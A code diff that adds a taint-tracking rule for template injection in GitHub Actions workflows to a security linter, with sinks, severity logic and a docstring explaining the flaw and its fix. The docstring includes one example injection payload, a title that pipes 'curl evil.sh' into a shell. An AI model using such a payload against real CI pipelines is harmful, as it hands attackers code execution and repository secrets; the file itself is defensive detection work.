@@ -1,13 +1,521 @@
 from __future__ import annotations
 
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+
 from bastion.findings import Confidence, Severity
-from bastion.rules.base import Rule
+from bastion.model.expressions import (
+    ContextPath,
+    ExpressionError,
+    find_expressions,
+    parse_expression,
+)
+from bastion.model.walk import expression_span, iter_expressions
+from bastion.model.workflow import Action, Fields, Job, Step, Workflow
+from bastion.rules.base import Hit, Rule
+from bastion.rules.taint import (
+    ATTACKER_OUTPUTS,
+    PRIVILEGED_TRIGGERS,
+    Flow,
+    Scope,
+    attacker_source,
+    env_entry,
+    env_levels,
+    known_outputs,
+    mask_expressions,
+    value_flows,
+)
+from bastion.source.yaml import MappingNode, ScalarNode
+
+# --- Sinks -----------------------------------------------------------------------------------
+
+SCRIPT_INPUTS: dict[str, tuple[str, str]] = {
+    "actions/github-script": ("script", "JavaScript"),
+    "azure/cli": ("inlinescript", "shell code"),
+    "azure/powershell": ("inlinescript", "PowerShell"),
+    "appleboy/ssh-action": ("script", "shell code on the remote host"),
+    "garygrossgarten/github-action-ssh": ("command", "shell code on the remote host"),
+    "nick-fields/retry": ("command", "shell code"),
+    "nick-invision/retry": ("command", "shell code"),
+    "wandalen/wretry.action": ("command", "shell code"),
+    "uraimo/run-on-arch-action": ("run", "shell code"),
+    "addnab/docker-run-action": ("run", "shell code"),
+    "cross-platform-actions/action": ("run", "shell code"),
+    "mathiasvr/command-output": ("run", "shell code"),
+    "jannekem/run-python-script-action": ("script", "Python"),
+}
+"""Inputs of well-known actions that are run as code: action slug -> (input, language)."""
+
+
+@dataclass(frozen=True, slots=True)
+class Sink:
+    node: ScalarNode
+    route: str
+    what: str
+    """The sink, for messages: "the `run:` script"."""
+    language: str
+    fix: str
+
+
+_SHELL_FIX = 'pass it through an `env:` variable and use "$VAR" instead'
+_JS_FIX = "pass it through an `env:` variable and read `process.env.VAR` instead"
+
+
+def _sinks(step: Step) -> Iterator[Sink]:
+    run = step.run
+    if run is not None:
+        yield Sink(run, f"{step.route}/run", "the `run:` script", "shell code", _SHELL_FIX)
+        return
+    uses, inputs = step.uses, step.with_
+    if uses is None or inputs is None:
+        return
+    slug = uses.slug.lower()
+    if uses.owner.lower() == "vmactions" and uses.repo.lower().endswith("-vm") and not uses.path:
+        wanted: tuple[str, str] | None = ("run", "shell code in the virtual machine")
+    else:
+        wanted = SCRIPT_INPUTS.get(slug) if uses.is_action(slug) else None
+    if wanted is None:
+        return
+    name, language = wanted
+    for entry in inputs:
+        if entry.key.value.lower() == name and isinstance(entry.value, ScalarNode):
+            fix = _JS_FIX if language == "JavaScript" else _SHELL_FIX
+            what = f"the `{entry.key.value}:` input of {uses.slug}"
+            yield Sink(entry.value, f"{step.route}/with/{entry.key.value}", what, language, fix)
+
+
+# --- What a value carries --------------------------------------------------------------------
+
+
+@dataclass(frozen=True, slots=True)
+class Taint:
+    """Why the value of a context read is attacker-controlled."""
+
+    context: str
+    """The context as the expression reads it."""
+    who: str
+    severity: Severity
+    confidence: Confidence
+    origin: str = ""
+    """For a derived value: the attacker-controlled context it carries."""
+    hops: tuple[str, ...] = ()
+    """For a derived value: how it got here (``env `TITLE```, ``an output of step `meta```)."""
+    event: str = ""
+    """For a high-severity taint: the privileged event that delivers it."""
+    note: str = ""
+    json: bool = False
+    """The text arrives JSON-encoded, which a JavaScript sink reads as a literal."""
+
+    @property
+    def rank(self) -> tuple[int, int]:
+        return (self.severity, self.confidence)
+
+    def derived(self, context: str, hop: str) -> Taint:
+        return replace(
+            self,
+            context=context,
+            confidence=min(self.confidence, Confidence.MEDIUM),
+            origin=self.origin or self.context,
+            hops=(*self.hops, hop),
+        )
+
+
+def _worst(taints: list[Taint | None]) -> Taint | None:
+    found = [t for t in taints if t is not None]
+    return max(found, key=lambda t: t.rank) if found else None
+
+
+MAX_DEPTH = 6
+"""How many hops (env variable, step output, job output) a value is followed through."""
+
+_SHELL_VARIABLE = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
+_SHELL_ASSIGNMENT = re.compile(
+    r"\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)*)?([A-Za-z_][A-Za-z0-9_]*)="
+)
+_WRITTEN_NAME = re.compile(r"([A-Za-z_][A-Za-z0-9_-]*)(?:=|<<)")
+_SET_OUTPUT_COMMAND = re.compile(r"::set-output\s+name=([A-Za-z0-9_-]+)::")
+_JS_PAYLOAD = re.compile(r"context\.payload((?:\.[A-Za-z_][A-Za-z0-9_]*)+)")
+_JS_DECLARATION = re.compile(r"\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=")
+_JS_IDENTIFIER = re.compile(r"[A-Za-z_$][\w$]*")
+_JS_WRITE = re.compile(r"core\.(setOutput|exportVariable)\(\s*['\"`]([^'\"`]+)['\"`]")
+_JS_RETURN = re.compile(r"\breturn\b")
+
+_FILE_COMMANDS = {"setOutput": "GITHUB_OUTPUT", "exportVariable": "GITHUB_ENV"}
+
+
+class Analysis:
+    """The taint of context reads in one workflow or action."""
+
+    def __init__(self, model: Workflow | Action) -> None:
+        self.workflow = model if isinstance(model, Workflow) else None
+        self.events = {t.event for t in self.workflow.triggers} if self.workflow else set()
+        self.privileged = [t.event for t in self.workflow.triggers] if self.workflow else []
+        self.privileged = [e for e in self.privileged if e in PRIVILEGED_TRIGGERS]
+        self.input_types = self._input_types()
+        self._written: dict[tuple[int, str], dict[str, Taint]] = {}
+
+    def _input_types(self) -> dict[str, set[str]]:
+        types: dict[str, set[str]] = {}
+        if self.workflow is None:
+            return types
+        for trigger in self.workflow.triggers:
+            if trigger.event not in ("workflow_dispatch", "workflow_call"):
+                continue
+            config = trigger.config
+            inputs = Fields(config).mapping("inputs") if isinstance(config, MappingNode) else None
+            for entry in inputs or ():
+                spec = entry.value
+                kind = Fields(spec).text("type") if isinstance(spec, MappingNode) else None
+                types.setdefault(entry.key.value.lower(), set()).add(kind or "string")
+        return types
+
+    # -- severity --
+
+    def _under(self, events: frozenset[str]) -> tuple[Severity, str]:
+        """Severity of a value the payload of ``events`` carries, and the privileged event."""
+        for event in self.privileged:
+            if event in events:
+                return Severity.HIGH, event
+        return Severity.MEDIUM, ""
+
+    def _delivered(self, events: frozenset[str]) -> bool:
+        """Whether some run of the workflow can carry a payload of ``events``."""
+        if self.workflow is None or "workflow_call" in self.events:
+            return True  # an action, or a reusable workflow: the caller's event
+        return bool(self.events & events)
+
+    # -- expressions --
+
+    def expression(self, source: str, scope: Scope, depth: int = 0) -> Taint | None:
+        try:
+            expr = parse_expression(source)
+        except ExpressionError:
+            return None
+        taints: list[Taint | None] = []
+        for flow in value_flows(expr):
+            taint = self.flow(flow, scope, depth)
+            if taint is not None:
+                written = source[flow.path.start : flow.path.end]
+                taint = replace(taint, context=written, json=taint.json or flow.serialized)
+            taints.append(taint)
+        return _worst(taints)
+
+    def text(self, text: str, scope: Scope, depth: int) -> Taint | None:
+        """The worst taint of the expressions embedded in ``text``."""
+        return _worst([self.expression(e.source, scope, depth) for e in find_expressions(text)])
+
+    def flow(self, flow: Flow, scope: Scope, depth: int) -> Taint | None:
+        if depth > MAX_DEPTH:
+            return None
+        path = flow.path
+        parts, context = path.parts, path.dotted()
+        source = attacker_source(path, serialized=flow.serialized)
+        if source is not None:
+            if not self._delivered(source.events):
+                note = " (though no trigger of this workflow sets it today)"
+                return Taint(context, source.who, Severity.LOW, Confidence.LOW, note=note)
+            severity, event = self._under(source.events)
+            return Taint(context, source.who, severity, Confidence.HIGH, event=event)
+        if parts[0] == "inputs" or parts[:3] == ("github", "event", "inputs"):
+            return self._input(parts[1 if parts[0] == "inputs" else 3 :], context)
+        if parts[:3] == ("github", "event", "client_payload"):
+            who = "whoever sends the repository_dispatch event (a token with write access)"
+            return Taint(context, who, Severity.LOW, Confidence.HIGH)
+        if parts[0] == "env" and len(parts) >= 2:
+            return self.env(parts[1], scope, depth + 1, context)
+        if parts[0] == "steps" and len(parts) >= 3 and parts[2] == "outputs":
+            output = parts[3] if len(parts) >= 4 else "*"
+            return self.step_output(parts[1], output, scope, depth + 1, context)
+        if parts[0] == "needs" and len(parts) >= 3 and parts[2] == "outputs":
+            output = parts[3] if len(parts) >= 4 else "*"
+            return self.job_output(parts[1], output, depth + 1, context)
+        return None
+
+    def _input(self, rest: tuple[str, ...], context: str) -> Taint | None:
+        if self.workflow is None:
+            who = "the workflow that uses this action"
+            return Taint(context, who, Severity.MEDIUM, Confidence.MEDIUM)
+        if rest and rest[0] != "*":
+            types = self.input_types.get(rest[0])
+            if types and "string" not in types:
+                return None  # booleans, numbers and choices cannot carry code
+        who = "whoever dispatches or calls the workflow (write access)"
+        return Taint(context, who, Severity.LOW, Confidence.HIGH)
+
+    # -- env variables --
+
+    def env(
+        self, name: str, scope: Scope, depth: int, context: str, level: int = 0
+    ) -> Taint | None:
+        """The taint of env variable ``name`` (lowercase) as seen from ``scope``."""
+        if depth > MAX_DEPTH:
+            return None
+        defined = env_entry(name, env_levels(scope, self.workflow), level)
+        if defined is not None:
+            entry, index = defined
+            if not isinstance(entry.value, ScalarNode):
+                return None
+            found = _worst(
+                [
+                    self._env_expression(e.source, scope, depth, index)
+                    for e in find_expressions(entry.value.value)
+                ]
+            )
+            if found is not None:
+                return found.derived(context, f"env `{entry.key.value}`")
+        # A variable an earlier step wrote to $GITHUB_ENV.
+        for step in reversed(scope.earlier):
+            written = self.written(step, scope, "GITHUB_ENV", depth)
+            found = written.get(name) or written.get("*")
+            if found is not None:
+                return found.derived(context, "$GITHUB_ENV")
+        return None
+
+    def _env_expression(self, source: str, scope: Scope, depth: int, level: int) -> Taint | None:
+        """An expression in an env value at ``level``: its own env reads look further out."""
+        try:
+            expr = parse_expression(source)
+        except ExpressionError:
+            return None
+        taints: list[Taint | None] = []
+        for flow in value_flows(expr):
+            parts = flow.path.parts
+            if parts[0] == "env" and len(parts) >= 2:
+                dotted = flow.path.dotted()
+                taints.append(self.env(parts[1], scope, depth + 1, dotted, level + 1))
+            else:
+                taints.append(self.flow(flow, scope, depth))
+        return _worst(taints)
+
+    # -- step and job outputs --
+
+    def step_output(
+        self, step_id: str, output: str, scope: Scope, depth: int, context: str
+    ) -> Taint | None:
+        for step in reversed(scope.earlier):
+            if (step.step_id or "").lower() != step_id:
+                continue
+            known = known_outputs(ATTACKER_OUTPUTS, step.uses)
+            if known is not None and (output == "*" or known.covers(output)):
+                confidence = known.confidence(step)
+                if confidence is None:
+                    return None
+                severity, event = self._under(PRIVILEGED_TRIGGERS)
+                who = f"whoever opens the pull request ({known.holds})"
+                json = known.is_json(step)
+                return Taint(context, who, severity, confidence, event=event, json=json)
+            written = self.written(step, scope.at(step), "GITHUB_OUTPUT", depth)
+            found = written.get(output) or written.get("*")
+            if found is None and output == "*" and written:
+                found = _worst(list(written.values()))
+            if found is not None:
+                return found.derived(context, f"an output of step `{step.step_id}`")
+            return None
+        return None
+
+    def job_output(self, job_id: str, output: str, depth: int, context: str) -> Taint | None:
+        if self.workflow is None or depth > MAX_DEPTH:
+            return None
+        job = next((j for j in self.workflow.jobs if j.job_id.lower() == job_id), None)
+        outputs = job.fields.mapping("outputs") if job else None
+        if job is None or outputs is None:
+            return None
+        scope = Scope(job, job.steps, len(job.steps))
+        taints: list[Taint | None] = []
+        for entry in outputs:
+            if output in ("*", entry.key.value.lower()) and isinstance(entry.value, ScalarNode):
+                taints.append(self.text(entry.value.value, scope, depth))
+        found = _worst(taints)
+        return found.derived(context, f"an output of job `{job.job_id}`") if found else None
+
+    # -- what a step writes to $GITHUB_OUTPUT or $GITHUB_ENV --
+
+    def written(self, step: Step, scope: Scope, target: str, depth: int) -> dict[str, Taint]:
+        """Names (lowercase; ``*`` for unknown) that ``step`` sets from attacker data."""
+        key = (id(step), target)
+        cached = self._written.get(key)
+        if cached is not None:
+            return cached
+        self._written[key] = {}  # guards against a loop through env variables
+        here = scope.at(step)
+        result: dict[str, Taint] = {}
+        if step.run is not None:
+            result = self._shell_writes(step.run.value, here, target, depth)
+        elif step.uses is not None and step.uses.is_action("actions/github-script"):
+            script = step.input("script")
+            if script is not None:
+                result = self._script_writes(script.value, here, target, depth)
+        self._written[key] = result
+        return result
+
+    def _shell_writes(self, script: str, scope: Scope, target: str, depth: int) -> dict[str, Taint]:
+        if target not in script:
+            return {}
+        variables: dict[str, Taint] = {}
+        result: dict[str, Taint] = {}
+        for line in script.splitlines():
+            embedded = find_expressions(line)
+            taints = [self.expression(e.source, scope, depth + 1) for e in embedded]
+            masked = mask_expressions(line, embedded)
+            for match in _SHELL_VARIABLE.finditer(masked):
+                name = match.group(1)
+                if name in variables:
+                    taints.append(variables[name])
+                elif not name.startswith("GITHUB_"):
+                    taints.append(self.env(name.lower(), scope, depth + 1, f"env.{name}"))
+            found = _worst(taints)
+            if found is None:
+                continue
+            assignment = _SHELL_ASSIGNMENT.match(masked)
+            if assignment:
+                variables[assignment.group(1)] = found
+            if target == "GITHUB_OUTPUT" and "::set-output" in masked:
+                names = _SET_OUTPUT_COMMAND.findall(masked)
+            elif target in masked:
+                names = _WRITTEN_NAME.findall(masked.split(">", 1)[0])
+            else:
+                continue
+            for name in names or ["*"]:
+                result[name.lower()] = found
+        return result
+
+    def _script_writes(
+        self, script: str, scope: Scope, target: str, depth: int
+    ) -> dict[str, Taint]:
+        variables: dict[str, Taint] = {}
+        result: dict[str, Taint] = {}
+        for line in script.splitlines():
+            embedded = find_expressions(line)
+            taints = [self.expression(e.source, scope, depth + 1) for e in embedded]
+            masked = mask_expressions(line, embedded)
+            for match in _JS_PAYLOAD.finditer(masked):
+                parts = ("github", "event", *match.group(1).lower().split(".")[1:])
+                taints.append(self.flow(Flow(ContextPath(parts, 0, 0), False, True), scope, depth))
+            taints.extend(
+                variables[word] for word in _JS_IDENTIFIER.findall(masked) if word in variables
+            )
+            found = _worst(taints)
+            if found is None:
+                continue
+            declared = _JS_DECLARATION.search(masked)
+            if declared:
+                variables[declared.group(1)] = found
+            for call, name in _JS_WRITE.findall(masked):
+                if _FILE_COMMANDS[call] == target:
+                    result[name.lower()] = found
+            if target == "GITHUB_OUTPUT" and _JS_RETURN.search(masked):
+                result["result"] = found
+        return result
+
+
+# --- The rule --------------------------------------------------------------------------------
 
 
 class TemplateInjection(Rule):
-    """Placeholder: being written."""
+    """Flags attacker-controlled `${{ }}` expressions expanded into code.
+
+    GitHub substitutes `${{ }}` expressions into the text of a step's `run:` script (or
+    an action's script input) *before* the shell or interpreter reads it. When the value is
+    written by an outsider, such as a pull request title, an issue body, a comment or a
+    branch name, its text becomes part of the program: a title like
+    ``a"; curl evil.sh | sh; echo "`` runs the attacker's commands.
+
+    Sinks: `run:` in workflows and composite actions, the `script:` of
+    `actions/github-script`, and the script inputs of a few well-known actions (azure/cli,
+    azure/powershell, appleboy/ssh-action, nick-fields/retry, uraimo/run-on-arch-action,
+    vmactions VMs, and others). An expression in `if:`, `env:` or an ordinary `with:`
+    input is passed as data and is not a sink.
+
+    Attacker-controlled values: pull request title, body, head branch and label; issue,
+    comment, review and discussion text; commit messages and author names and emails;
+    the head branch and commit of a `workflow_run`; wiki page names; `toJSON(...)` of an
+    object holding any of them. The value is also followed one hop at a time through
+    `env:` variables, `$GITHUB_ENV`, step outputs written to `$GITHUB_OUTPUT` (or by
+    `core.setOutput` in github-script), job outputs, and the outputs of actions that report
+    file or branch names (tj-actions/changed-files, dorny/paths-filter); such derived
+    findings have medium confidence. Inputs of `workflow_dispatch`/`workflow_call` are
+    reported with low severity (callers need write access) unless typed boolean, number
+    or choice; inputs of a composite action with medium severity and confidence.
+
+    Not reported: numbers, SHAs, ids, logins, `github.repository`, secrets, matrix values,
+    and the event fields that only people with write access set (release notes, label
+    names, pushed branch and tag names).
+
+    Severity is high when a privileged trigger (`pull_request_target`, `workflow_run`,
+    `issue_comment`, `issues`, `pull_request_review(_comment)`, `discussion(_comment)`)
+    delivers the value, with its write token and secrets; medium otherwise.
+
+    ## Why it matters
+    Script injection is the most common way into a CI job; under a privileged trigger it
+    hands an outsider the repository's token and secrets. The playbook's CI/CD controls
+    (C1, C5, C6) limit what such a job holds; this rule removes the way in.
+
+    ## Example
+    ```yaml
+    on: issues
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - run: echo "${{ github.event.issue.title }}"   # flagged
+    ```
+
+    ## How to fix
+    Pass the value through an environment variable, which the shell treats as data, and
+    quote it:
+
+    ```yaml
+          - run: echo "$TITLE"
+            env:
+              TITLE: ${{ github.event.issue.title }}
+    ```
+
+    In `actions/github-script`, read `process.env.TITLE` (or `context.payload`) instead.
+    """
 
     id = "template-injection"
     summary = "attacker-controlled expression expanded into code"
     severity = Severity.HIGH
     confidence = Confidence.HIGH
+
+    def check_workflow(self, workflow: Workflow) -> Iterator[Hit]:
+        analysis = Analysis(workflow)
+        for job in workflow.jobs:
+            yield from self._steps(analysis, job, job.steps, workflow)
+
+    def check_action(self, action: Action) -> Iterator[Hit]:
+        if action.is_composite:
+            yield from self._steps(Analysis(action), None, action.steps, action)
+
+    def _steps(
+        self, analysis: Analysis, job: Job | None, steps: list[Step], model: Workflow | Action
+    ) -> Iterator[Hit]:
+        for position, step in enumerate(steps):
+            scope = Scope(job, steps, position)
+            for sink in _sinks(step):
+                for scalar, embedded in iter_expressions(sink.node):
+                    taint = analysis.expression(embedded.source, scope)
+                    if taint is None:
+                        continue
+                    if taint.json and sink.language == "JavaScript":
+                        taint = replace(taint, confidence=Confidence.LOW)  # a JSON literal
+                    yield Hit(
+                        _message(taint, sink),
+                        scalar,
+                        sink.route,
+                        severity=taint.severity,
+                        confidence=taint.confidence,
+                        span=expression_span(model.lines, scalar, embedded),
+                    )
+
+
+def _message(taint: Taint, sink: Sink) -> str:
+    carries = ""
+    if taint.origin:
+        carries = f", which carries `{taint.origin}` (via {', then '.join(taint.hops)}),"
+    under = f" under `{taint.event}` (write token and secrets)" if taint.event else ""
+    return (
+        f"`{taint.context}`{carries} is controlled by {taint.who}{taint.note} and is expanded "
+        f"into {sink.what}{under}, where its text runs as {sink.language}; {sink.fix}"
+    )
